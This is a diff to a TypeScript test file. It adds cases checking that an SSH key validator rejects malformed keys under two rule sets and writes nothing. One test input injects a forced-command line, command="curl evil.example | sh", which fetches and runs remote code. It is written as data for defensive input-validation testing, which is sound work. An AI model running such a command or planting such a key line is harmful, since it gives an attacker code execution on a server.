@@ -31,8 +31,25 @@ beforeEach(() => {
 });
 
 describe('addSshKey', () => {
+  it.each([
+    ['a second line with a forced command', (k: string) => `${k}\ncommand="curl evil.example | sh" ${k}`],
+    ['a carriage return in the comment', (k: string) => `${k} me\rcommand="x"`],
+    ['a NUL byte', (k: string) => `${k}\u0000`],
+    ['a DEL character in the comment', (k: string) => `${k} bad\u007fname`],
+    ['a tab inside the key', (k: string) => k.replace(' ', '\t')],
+    ['a trailing line break', (k: string) => `${k}\n`],
+  ])('refuses %s with INVALID_SSH_KEY under both rule sets, and writes nothing', async (_case, make) => {
+    const key = make(ed25519Key('me'));
+    const before = structuredClone(store.document);
+
+    for (const rules of ['current', 'legacy'] as const) {
+      await expect(addSshKey(deps, 'bob', key, rules)).rejects.toMatchObject({ code: 'INVALID_SSH_KEY' });
+    }
+    expect(store.document).toEqual(before);
+  });
+
   it('appends the untrimmed key to root, the primary user and a user, creating missing lists', async () => {
-    const key = `  ${ed25519Key('new')}\n`;
+    const key = `  ${ed25519Key('new')} `;
 
     expect(await addSshKey(deps, 'root', key)).toBe('root');
     expect(await addSshKey(deps, 'alice', key)).toBe('primary');
